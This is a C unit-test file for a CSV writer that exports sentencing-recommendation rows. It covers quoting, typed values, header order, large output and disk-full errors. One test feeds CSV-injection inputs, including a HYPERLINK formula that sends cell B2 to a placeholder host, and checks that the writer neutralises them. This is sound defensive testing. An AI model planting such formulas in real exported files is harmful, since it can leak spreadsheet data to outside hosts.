/*-------------------------------------------------------------------------
 * test_csvout.c
 *     Unit tests of the CSV writer: quoting only when needed, typed values,
 *     the recommendations.csv header and rows, large output, and write
 *     failures.
 *
 * Output goes to memory through open_memstream; no database is used.
 *
 * tests/unit/test_csvout.c
 *-------------------------------------------------------------------------
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "case.h"
#include "csvout.h"
#include "status.h"

#include <csv.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

struct fx {
    char *out;
    size_t out_len;
    FILE *fp;
    struct csvout *w;
    struct err err;
    struct rec rec;
};

static int setup(void **state)
{
    struct fx *fx = calloc(1, sizeof *fx);

    if (!fx)
        return -1;
    fx->fp = open_memstream(&fx->out, &fx->out_len);
    if (!fx->fp)
        return -1;
    *state = fx;
    return 0;
}

static int teardown(void **state)
{
    struct fx *fx = *state;

    if (fx->w)
        csvout_close(fx->w, &fx->err);
    if (fx->fp)
        fclose(fx->fp);
    free(fx->out);
    rec_fini(&fx->rec);
    free(fx);
    return 0;
}

static void open_writer(struct fx *fx, bool bom)
{
    assert_int_equal(csvout_open(&fx->w, fx->fp, "recommendations.csv", bom, &fx->err), ST_OK);
}

/* Close the writer and return everything it wrote (NUL-terminated). */
static const char *finish(struct fx *fx)
{
    assert_int_equal(csvout_close(fx->w, &fx->err), ST_OK);
    fx->w = NULL;
    assert_int_equal(fflush(fx->fp), 0);
    return fx->out;
}

static void put(struct fx *fx, const char *s)
{
    assert_int_equal(csvout_str(fx->w, s, &fx->err), ST_OK);
}

static void end(struct fx *fx)
{
    assert_int_equal(csvout_end_row(fx->w, &fx->err), ST_OK);
}

static void csvout_quotes_only_fields_that_need_it(void **state)
{
    struct fx *fx = *state;

    open_writer(fx, false);
    put(fx, "plain");
    put(fx, "(2021)京0105刑初123号");
    put(fx, "a,b");
    put(fx, "say \"hi\"");
    put(fx, "two\nlines");
    put(fx, "cr\r");
    put(fx, " leading");
    put(fx, "trailing ");
    put(fx, "tab\t");
    put(fx, "in side");
    put(fx, "I2019:10.2;I2019:10.5");
    put(fx, "");
    put(fx, NULL);
    end(fx);
    assert_string_equal(finish(fx), "plain,(2021)京0105刑初123号,\"a,b\",\"say \"\"hi\"\"\","
                                    "\"two\nlines\",\"cr\r\",\" leading\",\"trailing \","
                                    "\"tab\t\",in side,I2019:10.2;I2019:10.5,,\n");
}

/* Text a spreadsheet would compute is written as '... in quotes (OWASP,
 * "CSV Injection"); plain numbers, negative ones too, stay numbers. */
static void csvout_neutralises_formula_like_text(void **state)
{
    struct fx *fx = *state;

    open_writer(fx, false);
    put(fx, "=HYPERLINK(\"http://x.example/?\"&B2,\"open\")");
    put(fx, "+1");
    put(fx, "-2+3");
    put(fx, "@SUM(A1)");
    put(fx, "\tlead");
    put(fx, "\rcr");
    put(fx, "-");
    put(fx, "-1.");
    put(fx, "-.5");
    put(fx, "-3");
    put(fx, "-0.25");
    put(fx, "1=1");
    put(fx, "a-b");
    end(fx);
    assert_string_equal(finish(fx), "\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"open\"\")\","
                                    "\"'+1\",\"'-2+3\",\"'@SUM(A1)\",\"'\tlead\",\"'\rcr\","
                                    "\"'-\",\"'-1.\",\"'-.5\",-3,-0.25,1=1,a-b\n");
}

static void csvout_field_takes_a_length_and_null_for_empty(void **state)
{
    struct fx *fx = *state;

    open_writer(fx, false);
    assert_int_equal(csvout_field(fx->w, "abc,def", 3, &fx->err), ST_OK);
    assert_int_equal(csvout_field(fx->w, NULL, 0, &fx->err), ST_OK);
    assert_int_equal(csvout_field(fx->w, "x\"y", 3, &fx->err), ST_OK);
    end(fx);
    assert_string_equal(finish(fx), "abc,,\"x\"\"y\"\n");
}

static void csvout_writes_a_bom_only_when_asked(void **state)
{
    struct fx *fx = *state;

    open_writer(fx, true);
    put(fx, "a");
    end(fx);
    assert_string_equal(finish(fx), "\xEF\xBB\xBF"
                                    "a\n");
}

static void csvout_keeps_a_row_of_one_empty_field_visible(void **state)
{
    struct fx *fx = *state;

    open_writer(fx, false);
    put(fx, "");
    end(fx);
    end(fx);
    put(fx, "x");
    end(fx);
    assert_int_equal(csvout_rows(fx->w), 3);
    assert_string_equal(finish(fx), "\"\"\n\"\"\nx\n");
}

static void csvout_writes_typed_values_as_value_format_does(void **state)
{
    struct fx *fx = *state;
    struct err *e = &fx->err;

    open_writer(fx, false);
    assert_int_equal(csvout_value(fx->w, FT_AMOUNT, true, 1200000, NULL, e), ST_OK);
    assert_int_equal(csvout_value(fx->w, FT_AMOUNT, true, 1200050, NULL, e), ST_OK);
    assert_int_equal(csvout_value(fx->w, FT_BOOL, true, 1, NULL, e), ST_OK);
    assert_int_equal(csvout_value(fx->w, FT_BOOL, true, 0, NULL, e), ST_OK);
    assert_int_equal(csvout_value(fx->w, FT_DATE, true, 18687, NULL, e), ST_OK);
    assert_int_equal(csvout_value(fx->w, FT_COUNT, true, 36, NULL, e), ST_OK);
    assert_int_equal(csvout_value(fx->w, FT_COUNT, false, 36, NULL, e), ST_OK);
    assert_int_equal(csvout_value(fx->w, FT_TEXT, true, 0, "a,b", e), ST_OK);
    assert_int_equal(csvout_value(fx->w, FT_LIST, true, 0, "CL:287-2;I2019:12.1", e), ST_OK);
    assert_int_equal(csvout_value(fx->w, FT_ENUM, true, 0, "fixed_term", e), ST_OK);
    assert_int_equal(csvout_value(fx->w, FT_TEXT, true, 0, NULL, e), ST_OK);
    assert_int_equal(csvout_int(fx->w, -42, e), ST_OK);
    assert_int_equal(csvout_int(fx->w, INT64_MIN, e), ST_OK);
    end(fx);
    assert_string_equal(finish(fx), "12000,12000.50,true,false,2021-03-01,36,,\"a,b\","
                                    "CL:287-2;I2019:12.1,fixed_term,,-42,"
                                    "-9223372036854775808\n");
}

static void csvout_refuses_a_date_it_cannot_write(void **state)
{
    struct fx *fx = *state;

    open_writer(fx, false);
    assert_int_equal(csvout_value(fx->w, FT_DATE, true, INT64_MAX, NULL, &fx->err), ST_EINPUT);
    assert_non_null(strstr(fx->err.msg, "cannot be written"));
    /* The failure sticks: the row's end and later fields repeat it. */
    memset(&fx->err, 0, sizeof fx->err);
    assert_int_equal(csvout_str(fx->w, "x", &fx->err), ST_EINPUT);
    assert_int_equal(csvout_end_row(fx->w, &fx->err), ST_EINPUT);
    assert_non_null(strstr(fx->err.msg, "cannot be written"));
}

static void csvout_writes_the_recommendations_header_in_contract_order(void **state)
{
    struct fx *fx = *state;

    open_writer(fx, false);
    assert_int_equal(csvout_rec_header(fx->w, &fx->err), ST_OK);
    assert_int_equal(csvout_rows(fx->w), 1);
    assert_string_equal(
        finish(fx), "case_no,defendant_no,offense,status,error,threshold_met,threshold_basis,"
                    "statutory_kinds,statutory_max_months,fine_rule,fine_min_yuan,recommended_kind,"
                    "recommended_months,range_low_months,range_high_months,suspension_allowed,"
                    "recommended_suspended,probation_min_months,probation_max_months,"
                    "recommended_fine_yuan,ban_eligible,ban_min_years,ban_max_years,"
                    "ban_recommended_years,injunction_eligible,review_flags,citations,rule_set,"
                    "error_kind,law_version\n");
}

static void csvout_writes_a_recommendation_as_30_columns(void **state)
{
    struct fx *fx = *state;
    struct rec *r = &fx->rec;

    assert_true(rec_set_text(r, R_CASE_NO, "(2021)京0105刑初123号"));
    assert_true(rec_set_text(r, R_DEFENDANT_NO, "1"));
    assert_true(rec_set_text(r, R_OFFENSE, "help_network_crime"));
    rec_set_num(r, R_STATUS, 0); /* an enum given by number only */
    rec_set_num(r, R_THRESHOLD_MET, 1);
    assert_true(rec_set_text(r, R_THRESHOLD_BASIS, "I2019:12.1;I2019:12.4"));
    assert_true(rec_set_text(r, R_STATUTORY_KINDS, "fixed_term;detention;surveillance"));
    rec_set_num(r, R_STATUTORY_MAX_MONTHS, 36);
    assert_true(rec_set_text(r, R_FINE_RULE, "with_or_alone"));
    rec_set_num(r, R_FINE_MIN_YUAN, 100000);
    assert_true(rec_set_text(r, R_RECOMMENDED_KIND, "fixed_term"));
    rec_set_num(r, R_RECOMMENDED_MONTHS, 10);
    rec_set_num(r, R_RANGE_LOW_MONTHS, 8);
    rec_set_num(r, R_RANGE_HIGH_MONTHS, 12);
    rec_set_num(r, R_SUSPENSION_ALLOWED, 1);
    rec_set_num(r, R_RECOMMENDED_SUSPENDED, 0);
    rec_set_num(r, R_RECOMMENDED_FINE_YUAN, 500050);
    rec_set_num(r, R_BAN_ELIGIBLE, 0);
    rec_set_num(r, R_INJUNCTION_ELIGIBLE, 0);
    assert_true(rec_set_text(r, R_REVIEW_FLAGS, "assumed_facts"));
    assert_true(rec_set_text(r, R_CITATIONS, "CL:287-2,I2019:12")); /* a comma: quoted */
    assert_true(rec_set_text(r, R_RULE_SET, "sha256:0123abcd"));
    assert_true(rec_set_text(r, R_LAW_VERSION, "CL2015;I2019;G2021"));

    open_writer(fx, false);
    assert_int_equal(csvout_rec(fx->w, r, &fx->err), ST_OK);
    assert_string_equal(finish(fx),
                        "(2021)京0105刑初123号,1,help_network_crime,ok,,true,"
                        "I2019:12.1;I2019:12.4,fixed_term;detention;surveillance,36,"
                        "with_or_alone,1000,fixed_term,10,8,12,true,false,,,5000.50,false,,,,"
                        "false,assumed_facts,\"CL:287-2,I2019:12\",sha256:0123abcd,,"
                        "CL2015;I2019;G2021\n");
}

static void csvout_writes_an_error_recommendation_with_only_the_error_filled(void **state)
{
    struct fx *fx = *state;
    struct rec *r = &fx->rec;

    assert_true(rec_set_text(r, R_CASE_NO, "A"));
    assert_true(rec_set_text(r, R_DEFENDANT_NO, "2"));
    assert_true(rec_set_text(r, R_OFFENSE, "refuse_netsec_duty"));
    assert_true(rec_set_text(r, R_STATUS, "error"));
    assert_true(rec_set_text(r, R_ERROR, "rule art286_1.lua:12: attempt to index a nil value"));
    assert_true(rec_set_text(r, R_ERROR_KIND, "rule"));
    open_writer(fx, false);
    assert_int_equal(csvout_rec(fx->w, r, &fx->err), ST_OK);
    assert_string_equal(finish(fx), "A,2,refuse_netsec_duty,error,rule art286_1.lua:12: "
                                    "attempt to index a nil value,,,,,,,,,,,,,,,,,,,,,,,,rule,\n");
}

/* libcsv reads the writer's output back into the same fields. */
struct readback {
    char **fields;
    size_t n, cap;
    size_t rows;
};

static void rb_field(void *s, size_t len, void *data)
{
    struct readback *rb = data;

    if (rb->n == rb->cap) {
        rb->cap = rb->cap ? 2 * rb->cap : 64;
        rb->fields = realloc(rb->fields, rb->cap * sizeof *rb->fields);
        assert_non_null(rb->fields);
    }
    rb->fields[rb->n] = malloc(len + 1);
    assert_non_null(rb->fields[rb->n]);
    if (len)
        memcpy(rb->fields[rb->n], s, len);
    rb->fields[rb->n][len] = '\0';
    rb->n++;
}

static void rb_row(int c, void *data)
{
    struct readback *rb = data;

    (void)c;
    rb->rows++;
}

static int never_space(unsigned char c)
{
    (void)c;
    return 0;
}

static void csvout_output_reads_back_into_the_same_fields(void **state)
{
    struct fx *fx = *state;
    static const char *const samples[] = {
        "plain",  "",   "a,b",       "\"",    "\"\"", "x\"", " ",
        "a\r\nb", "\n", "京,\"号\"", " pad ", "end,", ",",
    };
    const size_t ns = sizeof samples / sizeof samples[0];
    struct readback rb = {0};
    struct csv_parser p;
    const char *out;

    open_writer(fx, false);
    for (size_t i = 0; i < ns; i++)
        put(fx, samples[i]);
    end(fx);
    out = finish(fx);

    csv_init(&p, CSV_STRICT | CSV_STRICT_FINI | CSV_APPEND_NULL);
    csv_set_space_func(&p, never_space);
    assert_int_equal(csv_parse(&p, out, strlen(out), rb_field, rb_row, &rb), strlen(out));
    assert_int_equal(csv_fini(&p, rb_field, rb_row, &rb), 0);
    csv_free(&p);
    assert_int_equal(rb.rows, 1);
    assert_int_equal(rb.n, ns);
    for (size_t i = 0; i < ns; i++) {
        assert_string_equal(rb.fields[i], samples[i]);
        free(rb.fields[i]);
    }
    free(rb.fields);
}

/* More than the 256 KiB buffer, and one field larger than it. */
static void csvout_writes_output_larger_than_its_buffer(void **state)
{
    struct fx *fx = *state;
    size_t big_len = 300u * 1024;
    char *big = malloc(big_len + 1);
    char *expect = malloc(8u * 1024 * 1024);
    size_t o = 0;

    assert_non_null(big);
    assert_non_null(expect);
    for (size_t i = 0; i < big_len; i++)
        big[i] = i % 1000 == 999 ? '"' : (char)('a' + i % 26);
    big[big_len] = '\0';

    open_writer(fx, false);
    for (int i = 0; i < 50000; i++) {
        char s[32];

        snprintf(s, sizeof s, "row %d", i);
        put(fx, s);
        assert_int_equal(csvout_int(fx->w, i, &fx->err), ST_OK);
        put(fx, i % 3 ? "x" : "x,y");
        end(fx);
        o += (size_t)sprintf(expect + o, "row %d,%d,%s\n", i, i, i % 3 ? "x" : "\"x,y\"");
        if (i == 20000) {
            put(fx, "before");
            put(fx, big);
            end(fx);
            o += (size_t)sprintf(expect + o, "before,\"");
            for (size_t k = 0; k < big_len; k++) {
                if (big[k] == '"')
                    expect[o++] = '"';
                expect[o++] = big[k];
            }
            o += (size_t)sprintf(expect + o, "\"\n");
        }
    }
    assert_int_equal(csvout_rows(fx->w), 50001);
    finish(fx);
    assert_int_equal(fx->out_len, o);
    assert_memory_equal(fx->out, expect, o);
    free(big);
    free(expect);
}

static void csvout_reports_a_failed_write_on_close(void **state)
{
    struct fx *fx = *state;
    FILE *full = fopen("/dev/full", "w");

    if (!full) {
        skip();
        return;
    }
    assert_int_equal(csvout_open(&fx->w, full, "out.csv", false, &fx->err), ST_OK);
    assert_int_equal(csvout_str(fx->w, "a", &fx->err), ST_OK);
    assert_int_equal(csvout_end_row(fx->w, &fx->err), ST_OK);
    assert_int_equal(csvout_close(fx->w, &fx->err), ST_EIO);
    fx->w = NULL;
    assert_non_null(strstr(fx->err.msg, "could not write \"out.csv\""));
    fclose(full);
}

static void csvout_reports_a_failed_write_when_the_buffer_fills_and_after(void **state)
{
    struct fx *fx = *state;
    FILE *full = fopen("/dev/full", "w");
    enum status st = ST_OK;
    int i;

    if (!full) {
        skip();
        return;
    }
    assert_int_equal(csvout_open(&fx->w, full, "out.csv", false, &fx->err), ST_OK);
    for (i = 0; i < 100000 && st == ST_OK; i++)
        st = csvout_str(fx->w, "0123456789", &fx->err);
    assert_int_equal(st, ST_EIO);
    assert_true(i < 100000);
    assert_non_null(strstr(fx->err.msg, "No space left on device"));
    assert_int_equal(csvout_str(fx->w, "more", &fx->err), ST_EIO);
    assert_int_equal(csvout_end_row(fx->w, &fx->err), ST_EIO);
    assert_int_equal(csvout_close(fx->w, &fx->err), ST_EIO);
    fx->w = NULL;
    assert_non_null(strstr(fx->err.msg, "No space left on device"));
    fclose(full);
}

static void csvout_close_accepts_null(void **state)
{
    struct fx *fx = *state;

    assert_int_equal(csvout_close(NULL, &fx->err), ST_OK);
}

int main(void)
{
#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
    const struct CMUnitTest tests[] = {
        T(csvout_quotes_only_fields_that_need_it),
        T(csvout_neutralises_formula_like_text),
        T(csvout_field_takes_a_length_and_null_for_empty),
        T(csvout_writes_a_bom_only_when_asked),
        T(csvout_keeps_a_row_of_one_empty_field_visible),
        T(csvout_writes_typed_values_as_value_format_does),
        T(csvout_refuses_a_date_it_cannot_write),
        T(csvout_writes_the_recommendations_header_in_contract_order),
        T(csvout_writes_a_recommendation_as_30_columns),
        T(csvout_writes_an_error_recommendation_with_only_the_error_filled),
        T(csvout_output_reads_back_into_the_same_fields),
        T(csvout_writes_output_larger_than_its_buffer),
        T(csvout_reports_a_failed_write_on_close),
        T(csvout_reports_a_failed_write_when_the_buffer_fills_and_after),
        T(csvout_close_accepts_null),
    };
#undef T

    return cmocka_run_group_tests(tests, NULL, NULL);
}
